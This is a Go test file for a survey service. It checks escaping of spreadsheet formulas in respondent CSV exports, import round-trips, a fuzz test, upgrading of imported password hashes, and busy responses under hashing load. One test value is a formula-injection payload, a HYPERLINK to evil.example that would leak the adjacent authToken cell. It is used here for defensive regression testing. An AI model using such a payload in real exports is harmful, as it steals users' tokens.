package survey

import (
	"encoding/csv"
	"net/http"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/golang-jwt/jwt/v5"

	"github.com/dispatch24/dispatch24/internal/password"
	"github.com/dispatch24/dispatch24/internal/store"
	"github.com/dispatch24/dispatch24/internal/store/storetest"
)

// TestExportFormulaInjection: a username chosen by a third party (the create-user JWT) that a
// spreadsheet would run as a formula is exported with a leading ', and importing the export
// again updates the same respondents instead of creating quoted ones. Regression for issue
// 11: =HYPERLINK(…&C2…) was exported as is, next to the respondent's authToken in C2.
func TestExportFormulaInjection(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		f := setup(t, db)
		f.createSurvey("s1", nil)
		evil := `=HYPERLINK("https://evil.example/?"&C2,"x")`
		names := []string{evil, "+1", "-2", "@SUM(A1)", "'=already quoted", "''+twice", "'plain quote", "plain", "a=b"}
		for _, u := range names {
			tok := signToken(t, jwt.SigningMethodHS256, testSecret, jwt.MapClaims{"username": u, "exp": hourFromNow()})
			expect(t, f.createUser("s1", tok), http.StatusOK, "")
		}
		export := func() [][]string {
			r := f.do("GET", "/api/admin/surveys/s1/respondents/export", "admin", nil)
			expect(t, r, http.StatusOK, "")
			recs, err := csv.NewReader(strings.NewReader(string(r.body))).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			return recs
		}
		recs := export()
		got := map[string]bool{}
		for _, rec := range recs[1:] {
			got[rec[1]] = true
		}
		for _, want := range []string{`'` + evil, "'+1", "'-2", "'@SUM(A1)", "''=already quoted", "'''+twice", "'plain quote", "plain", "a=b"} {
			if !got[want] {
				t.Errorf("username cell %q missing from the export %v", want, got)
			}
		}
		for cell := range got {
			if rest := strings.TrimLeft(cell, "'"); rest == cell && rest != "" && strings.ContainsRune("=+-@\t\r", rune(rest[0])) {
				t.Errorf("cell %q starts with a formula character", cell)
			}
		}

		// Round trip: the export imported back (its username column; the other columns become
		// custom fields, so keep only the username) changes no username.
		var sb strings.Builder
		w := csv.NewWriter(&sb)
		for _, rec := range recs {
			_ = w.Write([]string{rec[1]})
		}
		w.Flush()
		r := f.send("POST", "/api/admin/surveys/s1/respondents/import", "admin", "text/csv", strings.NewReader(sb.String()))
		expect(t, r, http.StatusOK, "")
		if res := r.json(t); res["created"] != float64(0) || res["updated"] != float64(len(names)) {
			t.Fatalf("re-import of the export: %v, want 0 created, %d updated", res, len(names))
		}
		if n := f.countRespondents("s1"); n != len(names) {
			t.Fatalf("%d respondents after the round trip, want %d", n, len(names))
		}
	})
}

func TestSpreadsheetSafeRoundTrip(t *testing.T) {
	t.Parallel()
	for _, v := range []string{"", "'", "''", "=", "'=", "x", "'x", "-", "\t", "'\r", "''@", "a'=b", "é=1"} {
		if got := importCell(spreadsheetSafe(v)); got != v {
			t.Errorf("importCell(spreadsheetSafe(%q)) = %q", v, got)
		}
	}
}

func FuzzSpreadsheetSafe(f *testing.F) {
	for _, s := range []string{"", "=1", "'=1", "''-x", "plain", "'"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, v string) {
		safe := spreadsheetSafe(v)
		if safe != "" && strings.ContainsRune("=+-@\t\r", rune(safe[0])) {
			t.Fatalf("spreadsheetSafe(%q) = %q starts a formula", v, safe)
		}
		if got := importCell(safe); got != v {
			t.Fatalf("importCell(spreadsheetSafe(%q)) = %q", v, got)
		}
	})
}

// TestUpgradeImportedHashes: after the background pass no imported (cheap) hash is left, each
// respondent's original password still verifies, and a hash set meanwhile is not touched.
// Regression for issue 11: imported hashes stayed cheap until each respondent's first sign-in.
func TestUpgradeImportedHashes(t *testing.T) {
	t.Parallel()
	full := password.Params{Memory: 256, Time: 2, Threads: 1, KeyLen: 32, SaltLen: 16}
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		hasher := password.NewHasher(password.HasherConfig{Slots: 2, SlotMemory: full.Memory})
		f := setup(t, db, func(c *Config) {
			c.PasswordParams = full
			c.ImportPasswordParams = cheapParams
			c.Hasher = hasher
		})
		f.createSurvey("s1", nil)
		var sb strings.Builder
		sb.WriteString("username,password\n")
		const n = hashUpgradePage + 13 // more than one page
		for i := range n {
			sb.WriteString("user" + itoa(i) + ",password " + itoa(i) + "\n")
		}
		sb.WriteString("nopassword,\n")
		expect(t, f.send("POST", "/api/admin/surveys/s1/respondents/import", "admin", "text/csv", strings.NewReader(sb.String())), http.StatusOK, "")
		expect(t, f.do("PATCH", "/api/admin/surveys/s1/respondents/user0", "admin", map[string]any{"password": "set by hand"}), http.StatusOK, "")
		hashes := func() map[string]string {
			rows, err := db.Query(t.Context(), `SELECT username, password_hash FROM respondents WHERE survey_id = 's1' AND password_hash IS NOT NULL`)
			if err != nil {
				t.Fatal(err)
			}
			defer rows.Close()
			out := map[string]string{}
			for rows.Next() {
				var u, h string
				if err := rows.Scan(&u, &h); err != nil {
					t.Fatal(err)
				}
				out[u] = h
			}
			return out
		}
		before := hashes()
		if !password.Weaker(before["user1"], full) || password.Weaker(before["user0"], full) {
			t.Fatal("fixture: imported hashes should be weaker, the one set by hand not")
		}

		// The pass waits while the bound is full, and goes on when it frees.
		release, err := hasher.Acquire(t.Context(), full.Memory*2)
		if err != nil {
			t.Fatal(err)
		}
		done := make(chan error, 1)
		var upgraded int
		go func() {
			var err error
			upgraded, err = f.svc.UpgradeImportedHashes(t.Context())
			done <- err
		}()
		select {
		case err := <-done:
			t.Fatalf("the pass ran with the bound full: %v", err)
		case <-time.After(50 * time.Millisecond):
		}
		release()
		if err := <-done; err != nil {
			t.Fatal(err)
		}
		if upgraded != n-1 {
			t.Fatalf("upgraded %d, want %d", upgraded, n-1)
		}
		after := hashes()
		for u, h := range after {
			if password.Weaker(h, full) {
				t.Fatalf("%s still has a weaker hash %q", u, h)
			}
		}
		if after["user0"] != before["user0"] {
			t.Fatal("a hash set by hand was rewritten")
		}
		for _, i := range []int{1, 57, n - 1} {
			u := "user" + itoa(i)
			if !strings.HasPrefix(after[u], "$"+password.OnionID+"$") {
				t.Fatalf("%s: %q is not an upgraded hash", u, after[u])
			}
			if ok, err := password.Verify(after[u], "password "+itoa(i)); err != nil || !ok {
				t.Fatalf("%s: original password after the upgrade: ok=%v err=%v", u, ok, err)
			}
			if ok, _ := password.Verify(after[u], "password x"); ok {
				t.Fatalf("%s: a wrong password verifies", u)
			}
		}
		if again, err := f.svc.UpgradeImportedHashes(t.Context()); err != nil || again != 0 {
			t.Fatalf("second pass: %d %v, want nothing left", again, err)
		}
	})
}

func itoa(i int) string { return strconv.Itoa(i) }

// TestPasswordSetsBusy: with the process's hashing bound full, every survey route that hashes
// a password answers 503 busy with Retry-After and writes nothing.
func TestPasswordSetsBusy(t *testing.T) {
	t.Parallel()
	db := storetest.SQLite(t)
	hasher := password.NewHasher(password.HasherConfig{Slots: 1, SlotMemory: cheapParams.Memory,
		MaxWait: 10 * time.Millisecond, RetryAfter: 4 * time.Second})
	f := setup(t, db, func(c *Config) { c.Hasher = hasher })
	f.createSurvey("s1", nil)
	expect(t, f.do("POST", "/api/admin/surveys/s1/respondents", "admin", map[string]any{"username": "alice"}), http.StatusCreated, "")
	release, err := hasher.Acquire(t.Context(), cheapParams.Memory)
	if err != nil {
		t.Fatal(err)
	}
	defer release()
	for name, r := range map[string]response{
		"create": f.do("POST", "/api/admin/surveys/s1/respondents", "admin", map[string]any{"username": "bob", "password": "a password"}),
		"patch":  f.do("PATCH", "/api/admin/surveys/s1/respondents/alice", "admin", map[string]any{"password": "a password"}),
		"import": f.send("POST", "/api/admin/surveys/s1/respondents/import", "admin", "text/csv", strings.NewReader("username,password\ncarol,a password\n")),
		"create-user": f.createUser("s1", signToken(t, jwt.SigningMethodHS256, testSecret,
			jwt.MapClaims{"username": "dave", "password": "a password", "exp": hourFromNow()})),
	} {
		if r.status != http.StatusServiceUnavailable || r.code(t) != "busy" || r.header.Get("Retry-After") != "4" {
			t.Errorf("%s with the bound full: %d %s Retry-After %q", name, r.status, r.body, r.header.Get("Retry-After"))
		}
	}
	if n := f.countRespondents("s1"); n != 1 {
		t.Fatalf("%d respondents, want only alice", n)
	}
	alice, _ := f.svc.Store().Respondent(t.Context(), "s1", "alice")
	if alice.PasswordHash != "" {
		t.Fatal("alice's password was set")
	}
}
